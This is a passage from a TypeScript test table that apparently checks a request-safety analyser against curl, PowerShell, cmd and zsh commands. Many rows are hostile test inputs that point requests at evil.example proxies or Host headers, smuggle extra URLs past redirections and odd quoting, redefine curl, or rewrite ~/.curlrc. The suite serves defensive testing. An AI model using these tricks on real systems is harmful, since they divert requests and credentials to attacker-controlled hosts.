      ...['"x".y"a"', '$x.y"a"', '$x[0]/a', '$x.y-z'].map((word): Row => [
        'another argument directly after the members of a value',
        powershellFormat,
        `curl.exe -o ${word} ${url}\n`,
        /^unknown 0: the shell may make several words of /,
        /^unknown/,
      ]),
      ...[`a"b"c`, `$x'b'`, `a"'"$x"'"`].map((word): Row => [
        'strings after other characters, which belong to the same argument',
        powershellFormat,
        `curl.exe -o ${word} ${url}\n`,
        /^changed 1$/,
        word.includes('$') ? /^unknown 0: the shell may make several words of \$x$/ : /^changed 1$/,
      ]),
      ...['"x"[0]', '"x".Length', '(x).y', '(x).y("z")[0]', '$x.json'].map((value): Row => [
        'a value with its members',
        powershellFormat,
        `irm ${url} -Body ${value} -Method Post\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...["-Proxy('http://evil')", '-Proxy{x}', '-SkipCert.x', '-Proxy[0]'].map((parameter): Row => [
        'a parameter whose value follows without a blank',
        powershellFormat,
        `irm ${url} ${parameter}\n`,
        /^unknown 0: it has -(?:Proxy|SkipCert)$/,
        /^unknown/,
      ]),
      ...['${x y}', '${env:ProgramFiles(x86)}\\a', '"a${x"y}"', '${x`}y}', "${x'y}"].map((value): Row => [
        'a proxy after a variable in braces',
        powershellFormat,
        `irm ${url} -OutFile ${value} -Proxy http://evil\n`,
        /^unknown 0: it has -Proxy$/,
        /^unknown/,
      ]),
      ...[
        "Accept = 'a' + 'b'",
        'Accept = Get-Content a.txt -Raw',
        "Accept = 'a' -as\n  'b'",
        'Accept = $a; Accept-Language = $a, $b',
        "Authorization = 'x' +\n  'y'",
      ].map((entries): Row => [
        'a value in a table that is more than one word',
        powershellFormat,
        `irm ${url} -Headers @{ ${entries} }\n`,
        /^unknown 0: only the shell knows its header (?:Accept|Accept-Language|Authorization)$/,
        /^unknown/,
      ]),
      ...["Accept = 'a'; X = (Get-Date)", "Authorization = 'Bearer ' + 'y'"].map((entries): Row => [
        'values in a table whose ends are certain',
        powershellFormat,
        `irm ${url} -Headers @{ ${entries} }\n`,
        /^changed 1$/,
        /^changed 1$/,
      ]),
      ...[`\${${'x'.repeat(301)}}`, '${x\ny}', '$(@"\n$(@"\n)\n"@)\n"@)', '(1 <# ) #>)'].map((value): Row => [
        'a word that may end elsewhere than we see',
        powershellFormat,
        `irm ${url} -OutFile ${value} -Method Get\n`,
        /^unknown 0: the shell may make several words of/,
        /^unknown/,
      ]),
      ...['-Proxy"http://evil"', '-1', '–x1'].map((word): Row => [
        'a word with a dash that is no parameter',
        powershellFormat,
        `irm ${url} ${word}\n`,
        /^unknown 0: it has [-–]$/,
        /^unknown/,
      ]),
      ...['.Trim()', `.Replace("${acme.origin}", "${evil}")`, '[0]', '::x'].map((members): Row => [
        'an address with members, which may make anything of it',
        powershellFormat,
        `irm -Uri "${url}"${members} -Method Get\n`,
        /^unknown 0: it has a word that is known only when it runs$/,
        /^unknown/,
      ]),
      ...['a # it\'s "b"', 'a # }', "a <# it's } #>"].map((value): Row => [
        'a Host header below a comment',
        powershellFormat,
        `irm ${url} -Headers @{\n  A = "x" + $${value}\n  Host = 'evil.example' # it's\n}\n`,
        /^stray 0: https:\/\/evil/,
        /^stray/,
      ]),
      ...[
        "'*'",
        "'|'",
        '"a,"',
        "'-x'",
        'Get-Content a -Raw',
        'Get-Item *',
        '$i++',
        '$a | Out-String -Stream',
        '& $a -b',
        '$a +\n    $b',
        '$a+\n    $b',
        '$a -join\n    $b',
        "'a', # b\n    'c'",
        '$a |\n    f -x',
        '\n    $a',
      ].map((value): Row => [
        `a Host header below a value: ${value}`,
        powershellFormat,
        `irm ${url} -Headers @{\n  A = ${value}\n  Host = 'evil.example'\n}\n`,
        /^stray 0: https:\/\/evil/,
        /^stray/,
      ]),
      [
        'a blank and a backslash at the end, which Windows PowerShell puts in front of its quote',
        powershellFormat,
        `curl.exe -o 'C:\\a b\\' ${url} -d "x ${evil} y"\n`,
        /^unknown 0: the shell may make several words of /,
        /^unknown/,
      ],
      ...['-InformationAction Ignore', '-ProgressAction SilentlyContinue', '-infa 0 -wa 0 -ev e -ob 1'].map(
        (parameters): Row => [
          'what all commands of PowerShell know',
          powershellFormat,
          `irm ${url} ${parameters}\n`,
          /^changed 1$/,
          changedIfSimple,
        ],
      ),
      ...['-SessionVariable s', '-sess s', '-SV s'].map((parameters): Row => [
        'a session, which keeps the header for other hosts',
        powershellFormat,
        `irm ${url} ${parameters}\nirm ${evil} -WebSession $s\n`,
        /^unknown 0: it has -/,
        /^unknown 0: it has -/,
      ]),
      ...['  # see x.example', '  # -X DELETE', '  > a.json \\\n  # b'].map((last): Row => [
        'a comment on a further line of the command, which zsh reads as arguments',
        markdownFormat('restClient'),
        `\`\`\`sh\ncurl -s ${url} \\\n${last}\n\`\`\`\n`,
        /^unknown 1: a terminal with zsh reads its comment as arguments$/,
        /^unknown 1: a terminal with zsh reads its comment as arguments$/,
      ]),
      ...['“', '„', '”'].map((quote): Row => [
        'typographic quotes around the URL, which not every reader takes for quotes',
        powershellFormat,
        `irm ${quote}${url}” -Headers @{ ‘X’ = “a” }\n`,
        /^unknown 0: the shell may make several words of /,
        /^unknown/,
      ]),
      [
        'a proxy after typographic quotes',
        powershellFormat,
        `irm ${url} -OutFile 'x’ -Proxy http://evil -SkipCertificateCheck ‘y'\n`,
        /^unknown 0: it has -Proxy$/,
        /^unknown/,
      ],
      [
        'a host with a byte order mark, which is no blank for PowerShell',
        powershellFormat,
        `irm ${acme.origin}\ufeff.evil.example/x\n`,
        /^stray 0: https:.*evil/,
        /^stray/,
      ],
      [
        'another URL after a blank of Unicode',
        powershellFormat,
        `curl.exe -o x\u0085${evil} ${url}\n`,
        /^stray 0: https:\/\/evil/,
        /^stray/,
      ],
      ...[
        ['options', powershellFormat, `curl.exe --ftp-ssl ${url}`],
        ['options', cmdFormat, `curl --http3-only --rate 1/s ${url}`],
        ['letters', cmdFormat, `curl -o ü ${url}`],
        ['escapes', cmdFormat, `curl -o a^b ${url}`],
        ['parameters', powershellFormat, `irm ${url} -WebSession $s`],
        ['parameters', powershellFormat, `irm ${url} -FollowRelLink`],
        ['parameters', powershellFormat, `irm ${url} -P http://evil`],
        ['parameters', powershellFormat, `irm -Body a, ${url} ${evil}`],
        ['parameters', powershellFormat, `irm ${url} -Body 'a',\n  'b' -Proxy http://evil`],
        ['parameters', powershellFormat, `irm ${url} -Body a, # b\n\n  'b' -Proxy http://evil`],
        ['words after --', posixFormat, `curl -- ${url} -A ${evil}`],
        ['words after --', posixFormat, `curl -- ${url} --next ${evil}`],
      ].map(([what, format, command]): Row => [
        `${what as string} that are not known to be harmless`,
        format as RequestFormat,
        `${command as string}\n`,
        /^unknown 0: /,
        /^unknown 0: /,
      ]),
      ...[
        [powershellFormat, `curl.exe -sS -X PUT -H "Accept: */*" -d '{"a":1}' --max-time 5 '${url}?a=b'`],
        [powershellFormat, `irm ${url} -Method Put -Body '{"a": "b c"}' -ContentType 'application/json'`],
        [powershellFormat, `irm -Uri "${url}" -Meth Get -Headers @{ 'X-A' = "b" } -OutFile a.json`],
        [powershellFormat, `irm -Method Post -Verbose ${url} -ContentType 'application/json'`],
        [powershellFormat, `irm -Headers @{ A = 'b' } -UseBasic '${url}'`],
        [cmdFormat, `curl -sS -X PUT -H "Accept: */*" -d "{\\"a\\": \\"b c\\"}" --max-time 5 "${url}?a=b"`],
      ].map(([format, command]): Row => [
        'what people write',
        format as RequestFormat,
        `${command as string}\n`,
        /^changed 1$/,
        /^changed 1$/,
      ]),
      ...[
        ...['export {http,https}_proxy=http://p:1', 'export http{s,}_proxy=http://p:1'],
        ...[
          ': "${http_proxy:=http://evil}"',
          'export "http_proxy"="http://evil"',
          'printf -v https_proxy http://evil',
        ],
      ].map((line): Row => [
        'a proxy for all',
        posixFormat,
        `${line}\ncurl ${url}\n`,
        /^unknown 1: its script has/,
        /^unknown/,
      ]),
      ...[
        ...[
          'Set-Item env:https_proxy x',
          'si env:http_proxy x',
          'Set-Content env:https_proxy x',
          'sc Env:\\HTTPS_PROXY x',
          'Set-Item -Path Env:/HTTPS_PROXY -Value e',
          'Set-Item alias:/curl foo',
          '"x" | Set-Content -Path env:all_proxy',
          'Copy-Item env:a env:https_proxy',
          'Rename-Item env:a https_proxy',
          'Copy-Item a $HOME/.curlrc',
          'Set-Variable PSDefaultParameterValues @{"*:Proxy"="e"}',
          '$env:https_proxy, $env:no_proxy = "e", "f"',
          '#> $env:https_proxy = "e"',
          'Set-ItemProperty "HKCU:\\a\\Internet Settings" ProxyServer e',
          'reg add "HKCU\\a\\Internet Settings" /v AutoConfigURL /d e',
        ],
        ...[
          'sal irm evil',
          'nal irm evil',
          'filter irm {}',
          '${function:irm} = {}',
          '${function:global:irm} = {}',
          'New-Item -Path function: -Name irm -Value {}',
          `Set-Alias -Value 'C:\\${'a'.repeat(60)}.exe' -Name irm`,
          'Set-Item function:irm {}',
        ],
      ].map((line): Row => [
        'what counts for all requests',
        powershellFormat,
        `${line}\nirm ${url}\n`,
        /^unknown 1: its script has/,
        /^unknown/,
      ]),
      ...['set /p https_proxy=', 'set/p "HTTPS_PROXY="', 'if not defined A set /p CURL_HOME='].map(
        (line): Row => [
          'a proxy or a folder that the script asks for, without a question',
          cmdFormat,
          `${line}\ncurl ${url}\n`,
          /^unknown 1: its script has/,
          /^unknown/,
        ],
      ),
      ...[
        '#!/usr/bin/env -S CURL_HOME=./cfg pwsh',
        '#!/usr/bin/env -S https_proxy=http://evil.example:3128 pwsh',
        '#!/usr/bin/env -S ssh h pwsh',
        '#!/bin/bash',
      ].map((line): Row => [
        'a first line that starts another program than PowerShell',
        powershellFormat,
        `${line}\ncurl ${url}\n`,
        /^unknown 1: its first line may start another program than PowerShell$/,
        /^unknown 1: its first line may start another program than PowerShell$/,
      ]),
      ...['#!/usr/bin/env pwsh', '#!/usr/bin/pwsh -NoProfile -NoLogo', '#!/usr/local/bin/pwsh-preview'].map(
        (line): Row => [
          'a first line that names PowerShell',
          powershellFormat,
          `${line}\ncurl ${url}\n`,
          /^changed 1$/,
          /^changed 1$/,
        ],
      ),
      [
        'a command of a notebook that looks like a comment',
        powershellFormat,
        `# x\n#!import ./common.ps1\nirm ${url}\n`,
        /^changed 1$/,
        /^unknown 2/,
      ],
      ...[
        `$agent = 'demo','--connect-to','::evil.example:443'\ncurl.exe -H 'Authorization: Bearer x' -A @agent ${url}\n`,
        `$body = Get-Content b.json\ncurl.exe -H 'Authorization: Bearer x' -d @body ${url}\n`,
        `function f {\n  curl.exe -H 'Authorization: Bearer x' -o @script:p ${url}\n}\n`,
        `$p = @{ Method = 'Get' }\nirm @p -Uri ${url} -Headers @{ Accept = 'a' }\n`,
        `$p = @{ Uri = '${url}' }\nirm @p -Headers @{ Accept = 'a' }\n`,
        `$p = @{ Method = 'Get' }\nirm @p '${url}' -Headers @{ Accept = 'a' }\n`,
      ].map((script): Row => [
        'an array or a hash table in place of arguments',
        powershellFormat,
        script,
        /^unknown 1: it has @(?:agent|body|script:p|p)$/,
        /^unknown 1: it has @(?:agent|body|script:p|p)$/,
      ]),
      ...(
        [
          ['kubectl --token s3cr3t exec pod -- env', 'kubectl … exec'],
          ['docker -H tcp://u:s3cr3t@h  exec c', 'docker … exec'],
          ["alias api='curl -u me:s3cr3t' curl='curl -s'", 'alias … curl'],
          ['docker  exec c', 'docker exec'],
        ] as const
      ).map(([line, shown]): Row => [
        'what may hold a secret, which is not shown',
        posixFormat,
        `${line}\ncurl ${url}\n`,
        new RegExp(`^unknown 1: its script has “${shown}”$`),
        /^unknown/,
      ]),
      ...[
        'Remove-Item env:https_proxy',
        'Test-Path env:https_proxy',
        '$p = $env:https_proxy',
        'Remove-Item alias:curl',
        '$p = (Get-ItemProperty $key).ProxyServer',
      ].map((line): Row => [
        'a proxy that is only read or removed',
        powershellFormat,
        `${line}\nirm ${url}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...[
        ...['$h = @{ Host = "evil" }', '$h = @{}\n$h.Host="evil"', '$h = @{}\n$h["Host"] = "evil"'],
        ...['$h = @{}\n$h[$k] = "evil"', '$h = @{}\n$h["$k"] = "evil"', '$h = @{}\n$h.$k = "evil"'],
        ...['$h = @{}\n$h.Ho`st = "evil"', '$h = @{}\n$h.("Ho"+"st") = 1', '$h = @{}\n$h.Add($k, "evil")'],
        ...['$h = @{}\n$h.Item("Host") = "evil"', '$h = @{}\n$h.set_Item($k, "evil")'],
        ...[
          '$h = @{\n  $k = "evil"\n}',
          '$h = @{ A = 1; ($k) = "evil" }',
          '$h = @{\n  A = "*"\n  Host = "evil"\n}',
          '$h = @{\n  A = Get-Content a -Raw\n  Host = "evil"\n}',
          '$h = @{}\n$h += @{\n  "Host" = "evil"\n}',
        ],
        ...[
          ...[
            '-OutVariable h',
            '-ov h',
            '-OutV:h',
            '-ov +h',
            "-ErrorVariable 'h'",
            '-ev h',
            '-WarningVariable h',
          ],
          ...['-wv h', '-InformationVariable h', '-iv h', '-PipelineVariable h', '-pv h', '-pi h'],
          ...['-ResponseHeadersVariable h', '-rhv h', '-SessionVariable h', '-StatusCodeVariable h'],
        ].map(parameter => `$h = @{}\nirm https://evil.example ${parameter}`),
        ...['Set-Variable h $x', 'sv h $x', 'Set-Variable -Name "h" -Value $x', 'Set-Item variable:h $x'],
        ...['$x | Tee-Object -Variable h', '${h} = $x', '$h, $a = $x', 'foreach ($h in $x) { }'],
        ...['$x = $h', '$x = $h = @{}', 'f -Headers $h', 'f irm -Headers $h', 'irm x -Body (f -Headers $h)'],
        ...['$g = $h\n$g.Add($k, 1)', '$g = $h.PSBase\n$g.Add($k, 1)', '$g = $h.SyncRoot\n$g.Add($k, 1)'],
        ...['irm x -ov h -Headers $h', 'irm x -Headers ($h | f)', '$x = "$($h.Add($k, 1))"'],
        ...['$h = @{ A = 1 } + $x', '$h = @{} + @{ $k = 1 }', '$h = @{}.Clone() + $x', '$h = @{} `\n + $x'],
        ...['$h = @{}\n| f', '$h += @{ $k = "evil" }', '$h += @{ "A" = 1 } + $x', '$h += @{ "A" = 1 } | f'],
        ...['$h.Add("Ho" + "st", "evil")', '$h.Add("Host", 1)', '$h = @{ "Host " = "evil" }'],
        ...[
          '# $h = @{}',
          '<#\n$h = @{}\n#>',
          '@"\n$h = @{}\n"@',
          'if ($x) {\n  $h = @{}\n}',
          '$x = $h = @{}',
        ].map(line => `$h = @{}\n$h = f\n${line}`),
        ...['$h += $x', '$h = $h + $x', 'f ([ref]$h)', '$h."$k" = 1', '$h["$k"] = 1', '$h.PSBase.Add($k, 1)'],
      ]
        .map(line => (line.startsWith('$h = @{') ? line : `$h = @{}\n${line}`))
        .map((lines): Row => [
          'a table that may have a Host header',
          powershellFormat,
          `${lines}\nirm ${url} -Headers $h\n`,
          /^(?!changed).*elsewhere/,
          /^(?!changed).*elsewhere/,
        ]),
      ...[
        ...[
          '$h = @{}\n$h.Host = "evil"; irm',
          '$h = @{}; $h.Host = "evil"; irm',
          '$h = @{}\nGet-X -ov h; irm',
        ],
        '$h = @{}\n$h[$k] = 1; irm',
      ].map((start): Row => [
        'a table that is changed on the line of the request',
        powershellFormat,
        `${start} ${url} -Headers $h\n`,
        /^(?!changed).*elsewhere/,
        /^(?!changed).*elsewhere/,
      ]),
      ...[
        '$h = @{} + $x',
        '$h = @{ Host = "evil" }',
        '$h = Get-Headers',
        '$h = @{}\n$h[$k] = 1',
        '$h = @{}\nGet-X -ov h',
      ].map((lines): Row => [
        'a variable with the table added that may have a Host header',
        powershellFormat,
        `${lines}\nirm ${url} -Headers ($h + @{ A = 1 })\n`,
        /^(?!changed).*unknown \d: only the shell knows the name of a header$/,
        /^(?!changed).*unknown/,
      ]),
      ...['+ @{ Host = "evil" }', '| f { }', '; @{ Host = "evil" }'].map((further): Row => [
        'more than a variable with a table added',
        powershellFormat,
        `$h = @{}\nirm ${url} -Headers ($h + @{ A = 1 } ${further})\n`,
        /^elsewhere 1$/,
        /^elsewhere 1$/,
      ]),
      [
        'a variable with the table added whose names are known',
        powershellFormat,
        `$h = @{ Accept = "x" }\nirm ${url} -Headers ($h + @{ A = 1 })\n`,
        /^changed 1$/,
        /^changed 1$/,
      ],
      ...[
        '$h = @{ Accept = $a }',
        '$h = @{\n  "X-A" = "$a"\n}\n$h["X-B"] = $b',
        '$h = @{}\n$h.Accept = $a\n$h.Add("X", $x)',
        `$h = @{}\n$h.'Content-Type' = $a`,
        '$h = @{}\n$etag = $r.H.ETag',
        '# h has all headers\n$h = @{}\n# set h\n$h.set_Item("X-A", $x)\n$h += @{ "X-B" = $b }',
        `$h = @{}\nirm ${url} -Headers $h -Method Post\n$h.Remove("A")`,
        `$h = @{ "A" = "b" } # c\n$r = irm "${url}?a=1&b=2" -Body ($b | f) \`\n  -Headers ($h + @{ Authorization = $t })`,
        '$b = @"\n{}\n"@\nif ($x) { $h = f }\n$h = @{}\nif ($x) { $h += @{ "A" = 1 } }',
        `$h = @{}\n$b = @"\n{}\n"@\ncurl ${url} -Headers:$h`,
      ].map((lines): Row => [
        'a table whose names are known',
        powershellFormat,
        `${lines}\nirm ${url} -Headers $h\n`,
        /^changed [12]$/,
        changedIfSimple,
      ]),
      ...[
        [cmdFormat, `curl ${url} 2>&1 ${evil}`],
        [cmdFormat, `curl ${url} >&2 ${evil}`],
        [cmdFormat, `curl ${url} >out;${evil}`],
        [cmdFormat, `curl ${url} > out,${evil}`],
        [cmdFormat, `curl -d "a\\"b" ${url} & x ${evil}`],
        [cmdFormat, `curl -d "a\\"b" ${url} >x ${evil}`],
        [powershellFormat, `curl.exe ${url} 2>&1 ${evil}`],
        [powershellFormat, `curl.exe ${url} *>&1 ${evil}`],
        [posixFormat, `curl ${url} 2>&1 ${evil}`],
        [cmdFormat, `curl ${url} "2">out`],
        [cmdFormat, `for /f %%i in ('curl ${url} 2^>^&1 ${evil}') do echo %%i`],
        [cmdFormat, `for /f %%i in ('curl ${url} "2"^>out') do echo %%i`],
        [posixFormat, `curl ${url} "1249763844">out`],
        [posixFormat, `curl ${url} \\2>out`],
        [powershellFormat, `curl.exe ${url} "2">out`],
      ].map(([format, command]): Row => [
        'another URL after a redirection, or in quotes that are open for cmd',
        format as RequestFormat,
        `${command as string}\n`,
        /^unknown 0: it has several URLs$/,
        /^unknown/,
      ]),
      ...['=', ',', ';', ' ; = '].map((sign): Row => [
        `another URL after a sign that is a blank in a loop: ${sign}`,
        cmdFormat,
        `for /f %%i in ('curl ${url}?a${sign}${evil}') do echo %%i\n`,
        /^unknown 0: it has several URLs$/,
        /^unknown/,
      ]),
      ...['&', '|', '>'].map((sign): Row => [
        `an operator that the line break before it escapes: ${sign}`,
        cmdFormat,
        `curl ${url} ^\n${sign} ${evil}\n`,
        /^unknown 0: it has several URLs$/,
        /^unknown/,
      ]),
      [
        'two quotes within quotes',
        cmdFormat,
        `curl -d "a""b" ${url}\n`,
        /^unknown 0: the shell may make several words of /,
        /^unknown/,
      ],
      ...[
        [cmdFormat, `curl ${url} 2>&1 -s`],
        [cmdFormat, `curl ${url} 2>out -s`],
        [posixFormat, `curl ${url} 2>out -s`],
        [cmdFormat, `curl -d "{\\"a\\": 1}" ${url} & start ${evil}`],
        [cmdFormat, `curl ${url} > "a;b,c" -s`],
        [cmdFormat, `curl ${url} ^\n  | more`],
        [cmdFormat, `for /f %%i in ('curl ${url} 2^>nul') do echo %%i`],
        [cmdFormat, `for /f %%i in ('curl ${url} 2^>^&1 ^| find "a=b"') do echo %%i`],
        [cmdFormat, `for /f %%i in ('curl --url=${url} -d "a=b" -d "{\\"a\\":\\"b,c d\\"}"') do echo %%i`],
        [powershellFormat, `curl.exe ${url} 2>&1 -s`],
      ].map(([format, command]): Row => [
        'one URL beside a redirection or another command',
        format as RequestFormat,
        `${command as string}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...[
        [posixFormat, `curl -H 'Host:' ${url}`],
        [posixFormat, `curl -H 'Host: ' ${url}`],
        [posixFormat, `curl -H 'Host;' ${url}`],
        [cmdFormat, `curl -H "Host:" ${url}`],
        [powershellFormat, `irm ${url} -Headers @{ Host = '' }`],
        [http, `GET ${url}\nHost:`],
        [http, `GET ${url}\nHost: \t`],
        [http, `curl -H 'host:' ${url}`],
        [brunoFormat, bru('headers {\n  Host: \n}').trim()],
        [openCollectionFormat, headers('Host', '""')],
        [hurlFormat, hurl('Host:')],
      ].map(([format, text]): Row => [
        'an empty Host header, so that the server chooses the host',
        format as RequestFormat,
        `${text as string}\n`,
        /^unknown \d: (?:its Host header is empty|it has -H …)$/,
        /^unknown/,
      ]),
      [
        'a line break in a header',
        powershellFormat,
        `curl.exe -H "X: a\`r\`nHost: evil" ${url}\n`,
        /^unknown/,
        /^unknown/,
      ],
      ['a command that is measured', posixFormat, `time -p curl ${url}\n`, /^changed 1$/, changedIfSimple],
      ...[
        'https_proxy= curl',
        'http_proxy="" curl',
        "export https_proxy=''; curl",
        'export http_proxy=\ncurl',
      ].map((start): Row => [
        'a proxy that is left out',
        posixFormat,
        `${start} ${url}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ['a proxy option that is empty', posixFormat, `curl -x "" ${url}\n`, /^changed 1$/, /^changed 1$/],
      [
        'the same for Windows PowerShell, which leaves the empty word out',
        powershellFormat,
        `curl.exe -x "" ${url}\n`,
        /^unknown/,
        /^unknown/,
      ],
      ...[
        'https_proxy=$p curl',
        'http_proxy=""$p curl',
        'https_proxy=\\\nhttp://e curl',
        'export https_proxy; curl',
      ].map((start): Row => [
        'a proxy for a command',
        posixFormat,
        `${start} ${url}\n`,
        /^unknown \d: its script has/,
        /^unknown/,
      ]),
      ['no proxy', posixFormat, `export no_proxy=x\ncurl ${url}\n`, /^changed 1$/, changedIfSimple],
      ...(
        [
          [cmdFormat, 'set HTTPS_PROXY=', 'set "HTTPS_PROXY="', 'if 1==1 (set HTTP_PROXY=) & set ALL_PROXY='],
          [powershellFormat, "$env:HTTPS_PROXY = ''", '$env:HTTP_PROXY=$null; $env:ALL_PROXY = ""'],
        ] as const
      ).flatMap(([format, ...lines]) =>
        lines.map((line): Row => [
          'a proxy that is turned off',
          format,
          `${line}\ncurl ${url}\n`,
          /^changed 1$/,
          changedIfSimple,
        ]),
      ),
      ...(
        [
          [cmdFormat, 'set HTTPS_PROXY=e', 'set "HTTPS_PROXY=^\nhttp://e"', 'set HTTPS_PROXY=%1'],
          [
            powershellFormat,
            ...['$env:HTTPS_PROXY = "" + $p', '$env:HTTPS_PROXY = $nullable', '$env:HTTPS_PROXY =\n$p'],
            '[Environment]::SetEnvironmentVariable("APPDATA", "c:\\e")',
            ...['$env:HTTPS_PROXY ??= "http://e"', '$env:ALL_PROXY += "http://e"'],
          ],
        ] as const
      ).flatMap(([format, ...lines]) =>
        lines.map((line): Row => [
          'a proxy that is set, or a folder of options',
          format,
          `${line}\ncurl ${url}\n`,
          /^unknown \d: its script has/,
          /^unknown/,
        ]),
      ),
      ...[
        ...['"${=x}"', '"${(@s: :)x}"', '"${(f)x}"'],
        ...['"$a[@]"', '"$=x"', '$=x', 'x$^a', '$~x', '$==x'],
      ].map((word): Row => [
        'several words of zsh in quotes',
        posixFormat,
        `curl -o ${word} ${url}\n`,
        /^changed 1$|^elsewhere 0$/,
        /^unknown 0: the shell may make several words|^elsewhere 0$/,
      ]),
      ...[
        ...[
          `curl <1-2> -o x ${url}`,
          `curl ${url} <1-2> x`,
          `curl ${url} -s <-> x`,
          `curl ${url} -o a<3-> x`,
        ],
        ...[
          `curl ${url} -s <1-2>`,
          `curl ${url} 2>&1 <1-2> x | cat`,
          `curl ${url} \\\n  <-7> x`,
          `curl ${url} x<1-2>y`,
        ],
      ].map((command): Row => [
        'a range of numbers, which zsh replaces by names of files',
        posixFormat,
        `${command}\n`,
        /^unknown \d: /,
        /^unknown \d: /,
      ]),
      ...[
        `curl ${url} -d '<1-2>' | grep '<1-2>'`,
        `curl ${url} && echo "<1-2>"`,
        `curl ${url} <in- >out # <1-2>`,
        `curl ${url} -d @- <<X\n<1-2>\nX`,
      ].map((command): Row => [
        'no range of numbers',
        posixFormat,
        `${command}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...[
        '#!/usr/bin/env fish\n',
        '#!/bin/tcsh -f\n',
        '#!/usr/bin/env node ./run.sh\n',
        '#!/opt/sh-tools/bin/fish\n',
        '#!/usr/bin/env python3\n',
        'alias -g U="x https://evil.example"\n',
      ].map((start): Row => [
        'another shell, and an alias for any word',
        posixFormat,
        `${start}curl ${url}\n`,
        /^unknown \d: its script /,
        /^unknown \d: its script /,
      ]),
      ...[
        `curl ${url} # see https://evil.example`,
        `$ curl ${url} \\\n>  -s # list`,
        `curl -o !* ${url}`,
        `curl -H "A: !$" ${url}`,
      ].map((command): Row => [
        'what a terminal reads in another way',
        markdownFormat('restClient'),
        `\`\`\`sh\n${command}\n\`\`\`\n`,
        /^unknown \d: a terminal /,
        /^unknown \d: a terminal /,
      ]),
      ...[
        `curl ${url} | jq . # list`,
        `curl ${url}\n# list`,
        `curl -H 'A: !x' -d "Hello!" -o "a!=b" -o \\!x ${url}`,
      ].map((command): Row => [
        'what a terminal reads like a script',
        markdownFormat('restClient'),
        `\`\`\`sh\n${command}\n\`\`\`\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      [
        'a comment in a script',
        posixFormat,
        `curl -o "!x" ${url} # see https://evil.example\n`,
        /^changed 1$/,
        changedIfSimple,
      ],
      ...['-d --next', '-sd -:', '--data --next', '-o -:'].map((option): Row => [
        'a beginning of a transfer that is the value of an option',
        posixFormat,
        `curl ${url} ${option} https://evil.example/\n`,
        /^unknown 0: it has --next$/,
        /^unknown 0: it has --next$/,
      ]),
      [
        'a beginning of a flag',
        posixFormat,
        `curl --si -k ${url}\n`,
        /^unknown 0: it has -k$/,
        /^unknown 0: it has -k$/,
      ],
      ['a flag that is no beginning', posixFormat, `curl --ftp-ssl ${evil} ${url}\n`, /^stray/, /^stray/],
      ...['"${x:-$@}"', '"${y:-${a[@]}}"', '"${1+"$@"}"', '"${a[*]+"${a[@]}"}"'].map((word): Row => [
        'a list within an expansion in quotes',
        posixFormat,
        `curl -o ${word} ${url}\n`,
        /^changed 1$|^elsewhere 0$/,
        /^unknown 0: the shell may make several words of \$\w|^elsewhere 0$/,
      ]),
      [
        'a variable that may name a list',
        posixFormat,
        `x='a[@]'\ncurl -o "\${!x}" ${url}\n`,
        /^changed 1$/,
        /^unknown 1: the shell may make several words of \$!x$/,
      ],
      ...[
        ['$(date +%s).json', '$(…)'],
        ['`date`', '`…`'],
      ].map(([word = '', named = '']): Row => [
        'a substitution outside of quotes',
        posixFormat,
        `curl -o ${word} ${url}\n`,
        /^changed 1$/,
        new RegExp(`several words of ${named.replace(/[$().]/g, '\\$&')}$`),
      ]),
      ...['-o "$(f "$@")"', '-d @<(f "$@")'].map((option): Row => [
        'a list that stays one word',
        posixFormat,
        `curl ${option} ${url}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...[
        'http_proxy=http://evil.example curl',
        'env HTTPS_PROXY=http://evil.example curl',
        'export all_proxy=http://evil.example\ncurl',
        'CURL_HOME=. curl',
        'alias curl="curl -k"\ncurl',
        'curl() { command curl -k "$@"; }\ncurl',
        'alias -- curl="curl -k"\ncurl',
        "alias c=curl 'curl'='curl -k'\ncurl",
        'eval "curl() { :; }"\ncurl',
        'for https_proxy in http://evil.example; do curl',
        'mapfile -t https_proxy < proxies\ncurl',
        'declare -n proxy=https_proxy\ncurl',
        'rm -f a; cp b ~/.curlrc\ncurl',
        'cat a > ~/.curlrc\ncurl',
        'echo "proxy = http://evil.example" >> ~/.curlrc\ncurl',
        'echo "proxy = http://evil.example" > ~/.config/curlrc\ncurl',
        "env 'http_proxy'=http://evil.example curl",
        'alias \\\n  curl="curl -k"\ncurl',
        'function \\\ncurl { command curl -k "$@"; }\ncurl',
        '# a \\\nexport \\\n  "http_proxy"="http://evil.example"\ncurl',
        'export \\\n# \\\n  "http_proxy"="http://evil.example"\ncurl',
        "BASH_ALIASES[curl]='curl -k'\ncurl",
        'f() { :; }\nssh host "$(declare -f f); f"\ncurl',
        'typeset -f f | ssh host bash\ncurl',
        '{ declare -f f\n echo f; } | /usr/bin/ssh host bash\ncurl',
        'gcloud compute ssh host --command="$(declare -f)"\ncurl',
        'docker compose -f x.yml exec -T app sh\ncurl',
        'kubectl -n x exec -it pod -- sh\ncurl',
      ].map((command): Row => [
        'the environment or another curl',
        posixFormat,
        `${command} ${url}\n`,
        /unknown \d: its script has/,
        /unknown \d: its script has/,
      ]),
      ...[
        'echo x | xargs curl',
        'cat urls | xargs -n1 curl -s',
        'xargs -a urls curl',
        'echo x | sudo xargs -I good curl',
        'watch curl',
        'retry -t 5 -s 10 -- curl -f',
      ].map((command): Row => [
        'a command that changes the words',
        posixFormat,
        `${command} ${url}\n`,
        /^unknown 0: (?:xargs|watch|retry) may change the arguments of its command$/,
        /^unknown 0: (?:xargs|watch|retry) may change the arguments of its command$/,
      ]),
      ...[
        `irm ("https://evil.example/{0}/config/clients" -f $CUSTOMER_ID)\n`,
        `irm -Uri ("${url.replace('https', 'http')}/" + $id)\n`,
        `irm ([uri]"https://evil.example/$cid/config/clients")\n`,
      ].map((script): Row => [
        'another origin in an expression',
        powershellFormat,
        script,
        /^unknown 0: (?:its file may send it to https?:\/\/\w|only the shell knows)/,
        /^unknown 0: only the shell knows/,
      ]),
      ...[
        'v=$(cat version)\nBASE=https://evil.example\n',
        'ls\nBASE="https://evil.example/"\n',
        'case $1 in\n  dev) BASE=https://evil.example ;;\n  *) BASE=https://$OWN ;;\nesac\n',
        'for BASE in "https://evil.example" https://other.example; do\n',
        'for BASE in evil.example; do\n',
